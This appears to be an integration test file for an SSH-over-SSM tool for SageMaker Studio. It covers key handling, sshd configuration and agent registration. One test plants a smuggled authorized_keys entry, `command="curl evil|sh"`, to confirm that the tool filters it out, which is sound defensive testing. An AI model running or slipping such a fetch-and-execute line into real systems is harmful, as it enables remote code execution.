import { execFileSync } from 'node:child_process';
import { generateKeyPairSync } from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import {
  CreateAppCommand,
  CreateSpaceCommand,
  DeleteAppCommand,
  DescribeSpaceCommand,
  DescribeUserProfileCommand,
} from '@aws-sdk/client-sagemaker';
import {
  DescribeInstanceInformationCommand,
  GetParameterCommand,
  ListTagsForResourceCommand,
  PutParameterCommand,
} from '@aws-sdk/client-ssm';
import { startTestStudio, type TestStudio } from '@studio-teams/emulator';
import { sshPublicKeysParameter } from '@studio-teams/schema';
import { createClients, type StudioAws } from '../../../src/aws/clients';
import { listInstanceTargets } from '../../../src/ssh/find-targets';
import * as container from '../../../src/ssh/container';
import type { ContainerContext } from '../../../src/ssh/container';

/**
 * The container half over HTTP against the local Studio (emulator + moto), with the real AWS SDK
 * clients: jane-doe's own space (new Studio) and one of her KernelGateway apps (classic), in a
 * temporary home; the emulator's register endpoint stands for amazon-ssm-agent.
 */
let studio: TestStudio;
let aws: StudioAws;
let domainId: string;
let home: string;
const USER = 'jane-doe';

/** An OpenSSH public key line made without ssh-keygen. */
function publicKeyLine(comment: string): string {
  const { publicKey } = generateKeyPairSync('ed25519');
  const raw = publicKey.export({ format: 'der', type: 'spki' }).subarray(-32);
  const field = (b: Buffer) => {
    const len = Buffer.alloc(4);
    len.writeUInt32BE(b.length);
    return Buffer.concat([len, b]);
  };
  return `ssh-ed25519 ${Buffer.concat([field(Buffer.from('ssh-ed25519')), field(raw)]).toString('base64')} ${comment}`;
}
const fingerprintOf = (line: string) => container.parseKeyLine(line)!.fingerprint;

beforeAll(async () => {
  studio = await startTestStudio();
  aws = createClients({ env: studio.env });
  domainId = studio.emulator.domainId('datascience');
  home = fs.mkdtempSync(path.join(studio.sandboxDir, 'home-'));
});
afterAll(async () => {
  await studio?.close();
});

const ctxFor = (
  identity: Partial<ContainerContext['identity']>,
  over: Partial<ContainerContext> = {},
): ContainerContext => ({
  clients: aws.clients,
  identity: {
    domainId,
    userProfileName: USER,
    spaceName: null,
    appType: 'KernelGateway',
    resourceName: 'ml-t3-medium-test',
    region: aws.settings.region,
    ...identity,
  },
  home,
  agent: container.emulatedAgent(studio.emulator.url),
  ...over,
});

const putKeys = (lines: string[]) =>
  aws.clients.ssm.send(
    new PutParameterCommand({
      Name: sshPublicKeysParameter(USER),
      Value: lines.join('\n'),
      Type: 'String',
      Overwrite: true,
    }),
  );

describe('keys', () => {
  it('shows type, fingerprint and comment of each plain key, never the key or a smuggled line', async () => {
    const a = publicKeyLine('jane@laptop');
    const b = publicKeyLine('jane@desktop');
    await putKeys([a, `command="curl evil|sh" ${b}`, b, 'not a key']);
    const status = await container.status(ctxFor({}));
    expect(status.keys).toEqual([
      { type: 'ssh-ed25519', fingerprint: fingerprintOf(a), comment: 'jane@laptop' },
      { type: 'ssh-ed25519', fingerprint: fingerprintOf(b), comment: 'jane@desktop' },
    ]);
    expect(JSON.stringify(status)).not.toContain(a.split(' ')[1]);
    // The fingerprint is the one ssh-keygen prints.
    const file = path.join(home, 'a.pub');
    fs.writeFileSync(file, `${a}\n`);
    expect(execFileSync('ssh-keygen', ['-lf', file], { encoding: 'utf8' })).toContain(fingerprintOf(a));
  });

  it('removes one key and leaves every other line as it was', async () => {
    const a = publicKeyLine('one');
    const b = publicKeyLine('two');
    await putKeys([a, 'kept: not a key', b]);
    const { removed, keys } = await container.removeKey(ctxFor({}), fingerprintOf(a));
    expect(removed.comment).toBe('one');
    expect(keys.map((k) => k.comment)).toEqual(['two']);
    const value = (
      await aws.clients.ssm.send(new GetParameterCommand({ Name: sshPublicKeysParameter(USER) }))
    ).Parameter?.Value;
    expect(value).toBe(['kept: not a key', b].join('\n'));
    await expect(container.removeKey(ctxFor({}), fingerprintOf(a))).rejects.toThrow(
      /no key SHA256:.* is authorised/,
    );
    await expect(container.removeKey(ctxFor({}), 'SHA256:short')).rejects.toThrow(/is not a key fingerprint/);
  });
});

describe('new Studio space', () => {
  const SPACE = 'jane-remote';
  beforeAll(async () => {
    await aws.clients.sagemaker.send(
      new CreateSpaceCommand({
        DomainId: domainId,
        SpaceName: SPACE,
        OwnershipSettings: { OwnerUserProfileName: USER },
        SpaceSharingSettings: { SharingType: 'Private' },
        SpaceSettings: { AppType: 'JupyterLab' },
      }),
    );
    await aws.clients.sagemaker.send(
      new CreateAppCommand({
        DomainId: domainId,
        SpaceName: SPACE,
        AppType: 'JupyterLab',
        AppName: 'default',
      }),
    );
  });
  const spaceCtx = () => ctxFor({ spaceName: SPACE, appType: 'JupyterLab', resourceName: 'default' });

  it('is off until enabled, then needs a restart, then is ready', async () => {
    const off = await container.status(spaceCtx());
    expect(off).toMatchObject({
      mode: 'space',
      state: 'off',
      actions: ['enable-remote-access'],
      connectCommand: `sm-ssh connect sm-${SPACE}`,
      space: { name: SPACE, remoteAccess: false, appPickedUp: null },
      classic: null,
    });

    const enabled = await container.enableRemoteAccess(spaceCtx());
    expect(enabled).toMatchObject({ changed: true, restartNeeded: true });
    expect(enabled.message).toMatch(/stop and start the space's app.*sm-ssh connect sm-jane-remote/);
    const described = await aws.clients.sagemaker.send(
      new DescribeSpaceCommand({ DomainId: domainId, SpaceName: SPACE }),
    );
    expect(described.SpaceSettings?.RemoteAccess).toBe('ENABLED');
    expect(await container.status(spaceCtx())).toMatchObject({ state: 'restart-needed', actions: [] });
    expect((await container.enableRemoteAccess(spaceCtx())).changed).toBe(false);

    // The restart: a new app picks the setting up.
    await new Promise((r) => setTimeout(r, 250));
    await aws.clients.sagemaker.send(
      new DeleteAppCommand({
        DomainId: domainId,
        SpaceName: SPACE,
        AppType: 'JupyterLab',
        AppName: 'default',
      }),
    );
    await new Promise((r) => setTimeout(r, 250));
    await aws.clients.sagemaker.send(
      new CreateAppCommand({
        DomainId: domainId,
        SpaceName: SPACE,
        AppType: 'JupyterLab',
        AppName: 'default',
      }),
    );
    expect(await container.status(spaceCtx())).toMatchObject({
      state: 'ready',
      space: { remoteAccess: true, appPickedUp: true },
    });
  });

  it('refuses to activate a space app: spaces use remote access', async () => {
    await expect(container.activate(spaceCtx())).rejects.toThrow(/enable remote access for the space/);
  });
});

describe('classic app', () => {
  const instancesOfJane = async () =>
    (
      await aws.clients.ssm.send(
        new DescribeInstanceInformationCommand({ Filters: [{ Key: 'tag:owner', Values: [USER] }] }),
      )
    ).InstanceInformationList ?? [];

  it('says how to install the agent when it is missing, and offers no action', async () => {
    const ctx = ctxFor({}, { agent: undefined });
    const s = await container.status(ctx);
    expect(s).toMatchObject({ mode: 'classic', state: 'off', actions: [] });
    expect(s.classic?.agentInstallHint).toMatch(/amazon-ssm-agent/);
    await expect(container.activate(ctx)).rejects.toBeInstanceOf(container.AgentMissingError);
  });

  it('refuses when a default AWS profile would shadow the execution role', async () => {
    const ownHome = fs.mkdtempSync(path.join(studio.sandboxDir, 'home-default-'));
    fs.mkdirSync(path.join(ownHome, '.aws'));
    fs.writeFileSync(path.join(ownHome, '.aws', 'credentials'), '[default]\naws_access_key_id = AKIA\n');
    await expect(container.activate(ctxFor({}, { home: ownHome }))).rejects.toThrow(
      /credentials has a \[default\] profile, which would shadow/,
    );
    fs.writeFileSync(path.join(ownHome, '.aws', 'credentials'), '[personal]\n');
    fs.writeFileSync(path.join(ownHome, '.aws', 'config'), '[profile default]\nregion = eu-west-1\n');
    await expect(container.activate(ctxFor({}, { home: ownHome }))).rejects.toThrow(
      /config has a \[default\]/,
    );
    expect(await instancesOfJane()).toEqual([]);
  });

  it('activates: sshd files under the home, a tagged managed instance, ready; deactivate leaves no mi-*', async () => {
    const key = publicKeyLine('jane@laptop');
    await putKeys([key]);
    fs.writeFileSync(path.join(home, '.profile'), '# mine\nexport EDITOR=vim\n');
    const ctx = ctxFor({});
    const result = await container.activate(ctx);
    expect(result.instanceId).toMatch(/^mi-[0-9a-f]{17}$/);
    expect(result.name).toBe('ml-t3-medium-test');
    expect(result.message).toContain('sm-ssh connect sm-ml-t3-medium-test');

    const tags = await aws.clients.ssm.send(
      new ListTagsForResourceCommand({ ResourceType: 'ManagedInstance', ResourceId: result.instanceId }),
    );
    expect(Object.fromEntries((tags.TagList ?? []).map((t) => [t.Key, t.Value]))).toEqual({
      owner: USER,
      domain: domainId,
      user: USER,
      app: 'KernelGateway/ml-t3-medium-test',
    });
    const [info] = await instancesOfJane();
    expect(info).toMatchObject({
      InstanceId: result.instanceId,
      Name: 'ml-t3-medium-test',
      PingStatus: 'Online',
    });
    const userProfile = await aws.clients.sagemaker.send(
      new DescribeUserProfileCommand({ DomainId: domainId, UserProfileName: USER }),
    );
    expect(`arn:aws:iam::${studio.seed.accountId}:role/${info?.IamRole}`).toBe(
      userProfile.UserSettings?.ExecutionRole,
    );

    const config = fs.readFileSync(container.sshdConfigFile(home), 'utf8');
    expect(config).toMatch(/^ListenAddress 127\.0\.0\.1$/m);
    expect(config).toMatch(/^PasswordAuthentication no$/m);
    expect(config).toContain(`HostKey ${container.hostKeyFile(home)}`);
    expect(fs.readFileSync(container.authorizedKeysFile(home), 'utf8')).toBe(`${key}\n`);
    expect(fs.statSync(container.hostKeyFile(home)).mode & 0o777).toBe(0o600);
    const profile = fs.readFileSync(path.join(home, '.profile'), 'utf8');
    expect(profile).toContain('# mine\nexport EDITOR=vim\n');
    expect(profile).toContain('export TAR_OPTIONS=--no-same-owner');
    // sshd itself reads the file as meant: keys only, loopback only.
    const effective = execFileSync('/usr/sbin/sshd', ['-T', '-f', container.sshdConfigFile(home)], {
      encoding: 'utf8',
    });
    expect(effective).toMatch(/^passwordauthentication no$/m);
    expect(effective).toMatch(/^kbdinteractiveauthentication no$/m);
    expect(effective).toMatch(/^pubkeyauthentication yes$/m);
    expect(effective).toMatch(/^listenaddress 127\.0\.0\.1:22$/m);

    // The laptop half (`sm-ssh list`) finds it by the name in the connect line.
    const targets = await listInstanceTargets(aws.clients.ssm, USER, domainId);
    expect(targets.map((t) => [t.host, t.instanceId, t.stale])).toEqual([
      ['sm-ml-t3-medium-test', result.instanceId, false],
    ]);

    const ready = await container.status(ctx);
    expect(ready).toMatchObject({
      state: 'ready',
      actions: ['deactivate'],
      host: 'sm-ml-t3-medium-test',
      classic: { sshdConfigured: true, agentAvailable: true, instances: [{ instanceId: result.instanceId }] },
    });
    // Activating again is a no-op while the agent is online.
    expect((await container.activate(ctx)).instanceId).toBe(result.instanceId);

    const hostKeyBefore = fs.readFileSync(container.hostKeyFile(home), 'utf8');
    const done = await container.deactivate(ctx);
    expect(done.deregistered).toEqual([result.instanceId]);
    expect(await instancesOfJane()).toEqual([]);
    expect(await container.status(ctx)).toMatchObject({ state: 'off', actions: ['activate'] });

    // A second activation replaces the first without leftovers and keeps the host key.
    const again = await container.activate(ctx);
    expect(again.instanceId).not.toBe(result.instanceId);
    expect(fs.readFileSync(container.hostKeyFile(home), 'utf8')).toBe(hostKeyBefore);
    expect((fs.readFileSync(path.join(home, '.profile'), 'utf8').match(/TAR_OPTIONS/g) ?? []).length).toBe(1);
    await container.deactivate(ctx);
  });

  it('replaces a registration whose agent went silent, leaving no stale mi-*', async () => {
    const ctx = ctxFor({ resourceName: 'silent-app' });
    const first = await container.activate(ctx);
    await fetch(`${studio.emulator.url}/_emulator/agents/${first.instanceId}`, {
      method: 'PUT',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ online: false }),
    });
    const starting = await container.status(ctx);
    expect(starting).toMatchObject({ state: 'starting', actions: ['activate', 'deactivate'] });
    const second = await container.activate(ctx);
    expect(second.deregistered).toEqual([first.instanceId]);
    expect((await instancesOfJane()).map((i) => i.InstanceId)).toEqual([second.instanceId]);
    await container.deactivate(ctx);
    expect(await instancesOfJane()).toEqual([]);
  });
});
